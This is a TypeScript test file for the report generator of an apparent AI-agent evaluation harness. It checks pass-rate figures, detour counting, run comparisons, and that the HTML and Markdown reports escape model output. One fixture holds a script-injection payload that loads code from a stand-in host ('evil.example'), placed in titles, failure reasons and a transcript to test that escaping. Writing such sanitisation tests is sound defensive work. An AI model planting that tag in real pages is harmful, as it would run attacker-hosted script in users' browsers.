import { describe, expect, test } from 'vitest'
import { ALL_LISTED } from '../../mcp/server/listed-tools.ts'
import submits from '../scenarios/listing/16-submit-a-website.ts'
import buys from '../scenarios/owning/33-buy-a-launch.ts'
import type { Call, Detour, Run, TrialResult } from '../stage/kit.ts'
import { surfaceOf } from '../tool-surface.ts'
import { compared, differenceOf } from './compare.ts'
import { detourInWords, detoursIn } from './detours.ts'
import { figuresOf } from './report-figures.ts'
import { reportPage } from './report-page.ts'
import { reportMarkdown } from './report.ts'

describe('a report', () => {
  const hostile = '<script src="https://evil.example/x.js"></script>'
  const trial = (scenario: string, pass: boolean, more: Partial<TrialResult> = {}): TrialResult => ({
    scenario,
    title: `About ${hostile}`,
    tags: [],
    trial: 1,
    pass,
    stop: 'done',
    checks: [{ id: 'one-order', kind: 'goal', ok: pass, ...(pass ? {} : { why: `said | ${hostile}` }) }],
    calls: 2,
    errors: 1,
    repeated: 0,
    detours: [],
    resultTokens: 300,
    usage: { input: 10, output: 5 },
    ms: 1200,
    transcript: { entries: [{ kind: 'assistant', text: hostile }], usage: { input: 10, output: 5 } },
    ...more,
  })
  const runOf = (results: TrialResult[], more: Partial<Run> = {}): Run => ({
    at: '2026-11-20T12:00:00.000Z',
    commit: 'abc',
    driver: 'gemini:fake-3',
    engine: 'pglite',
    toolsHash: 'def',
    trials: 2,
    results,
    mutants: [],
    uncovered: [],
    ms: 1,
    ...more,
  })
  const half = [
    trial('a', true),
    trial('a', false, { trial: 2 }),
    trial('b', false, { stop: 'infra', problem: 'gone' }),
  ]

  test('counts trials without an answer of the model apart, and estimates by task', () => {
    expect(figuresOf(runOf(half))).toMatchObject({ valid: 2, passed: 1, infra: 1, passAt: [0.5, 1], passHat: [0.5, 0] })
  })

  test('names the three most common detours, in words', () => {
    const detour = (tool: string, what: Detour['what'] = 'a further look-up'): Detour => ({ tool, what })
    const results = [
      trial('a', true, { detours: [detour('get_draft'), detour('get_draft'), detour('list_products')] }),
      trial('b', true, { detours: [detour('get_draft'), detour('get_order', 'the same call again')] }),
      trial('c', true, { detours: [detour('update_draft', 'a further write'), detour('list_products')] }),
      trial('d', false, { stop: 'infra', detours: [detour('get_order'), detour('get_order'), detour('get_order')] }),
    ]
    const run = runOf(results)
    const words = [
      'get_draft: a further look-up, 3 calls in 2 trials',
      'list_products: a further look-up, 2 calls in 2 trials',
      'get_order: the same call again, 1 call in 1 trial',
    ]
    expect(figuresOf(run).detours.map(detourInWords)).toEqual(words)
    for (const [index, text] of words.entries()) {
      expect(reportMarkdown(run)).toContain(`| detour ${index + 1} | ${text} |`)
      expect(reportPage(run)).toContain(`<li>${text}</li>`)
    }
  })

  test('a detour is a call beyond the plan, except polling', () => {
    const call = (name: string, args = {}, isError = false): Call => ({
      kind: 'call',
      name,
      args,
      isError,
      result: {},
      text: '',
      tokens: 0,
      ms: 0,
    })
    const draft = call('get_draft', { id: 'a' })
    expect(detoursIn([call('submit_listing'), draft, draft, draft], submits.gold)).toEqual([])
    expect(
      detoursIn(
        [
          call('list_my_listings'),
          call('list_my_listings'),
          call('list_products'),
          call('create_checkout', {}, true),
          call('create_checkout', { a: 1 }),
          call('choose_free_listing'),
        ],
        buys.gold,
      ),
    ).toEqual([
      { tool: 'list_my_listings', what: 'the same call again' },
      { tool: 'list_products', what: 'a further look-up' },
      { tool: 'create_checkout', what: 'again after an error' },
      { tool: 'choose_free_listing', what: 'a further write' },
    ])
  })

  test('is Markdown and one page that loads nothing, whatever a model said', () => {
    const run = runOf(half, { mutants: [{ scenario: 'a', mutant: 'm', caughtBy: 'c', caught: false, failed: [] }] })
    const [markdown, page] = [reportMarkdown(run), reportPage(run)]
    expect(markdown).toContain('| pass@1 | 50.0 % |')
    expect(markdown).not.toMatch(/[^\\]<script/)
    expect(page).toContain('&lt;script src=')
    expect(page).not.toContain('<script')
    expect(page).not.toMatch(/(?:src|href|url)\s*[=(]\s*["']?(?:https?:)?\/\//)
    expect(page.match(/<svg/g)).toHaveLength(3)
  })

  test('a comparison fails on what a script lost, and on a model only beyond chance', () => {
    const surface = surfaceOf(ALL_LISTED)
    const budget = { surface, baseline: surface }
    const many = (passes: boolean, count = 30) => Array.from({ length: count }, (_, n) => trial(`task-${n}`, passes))
    expect(compared(runOf(many(true), { driver: 'scripted' }), budget).faults).toEqual([])
    expect(
      compared(
        runOf([trial('a', false)], {
          driver: 'scripted',
          uncovered: ['get_order'],
          mutants: [{ scenario: 'a', mutant: 'm', caughtBy: 'c', caught: false, failed: [] }],
        }),
        { surface: { ...surface, total: surface.total * 2 }, baseline: surface },
      ).faults,
    ).toHaveLength(4)
    const before = runOf(many(true))
    const one = [trial('task-0', false), ...many(true).slice(1)]
    expect(compared(runOf(one), { ...budget, before }).faults).toEqual([])
    expect(compared(runOf(many(false)), { ...budget, before }).faults).toEqual([
      expect.stringContaining('beyond chance'),
    ])
    expect(differenceOf(before, runOf([]))).toBeNull()
    expect(compared(runOf(one, { uncovered: ['get_order'] }), { ...budget, before }).faults).toEqual([
      'get_order is no longer covered.',
    ])
  })
})
